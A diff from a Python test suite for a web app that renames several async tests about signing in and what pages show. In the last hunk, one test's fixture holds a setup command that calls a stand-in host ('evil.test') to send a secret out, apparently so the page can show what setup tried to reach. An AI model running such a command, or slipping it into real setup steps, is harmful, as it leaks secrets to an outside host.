@@ -92,7 +92,7 @@ async def _signed_in(harness: Harness, login: str) -> AsyncIterator[httpx.AsyncC
 # -- signing in
 
 
-async def test_who_is_not_signed_in_is_led_to_the_door_and_back(
+async def test_a_visitor_signs_in_and_returns_to_the_page(
     harness: Harness, public: Subject
 ) -> None:
     async with _visitor(harness) as client:
@@ -177,7 +177,7 @@ async def test_declining_is_reported(harness: Harness) -> None:
 # -- what each person sees
 
 
-async def test_a_page_tells_what_a_person_on_a_phone_wants(
+async def test_a_page_shows_what_a_person_on_a_phone_wants(
     harness: Harness, public: Subject
 ) -> None:
     async with _signed_in(harness, "olivia") as client:
@@ -197,7 +197,7 @@ async def test_a_page_tells_what_a_person_on_a_phone_wants(
     assert f'href="{github}/runs/{public.check.id}"' in text
 
 
-async def test_a_page_tells_what_set_up_tried_to_reach(harness: Harness) -> None:
+async def test_a_page_shows_what_set_up_tried_to_reach(harness: Harness) -> None:
     fetch = "import urllib.request as u; u.urlopen('https://evil.test/?secret')"
     rules = f"""
 setup: ['python3 -c "{fetch.replace("'", "''")}" || true']
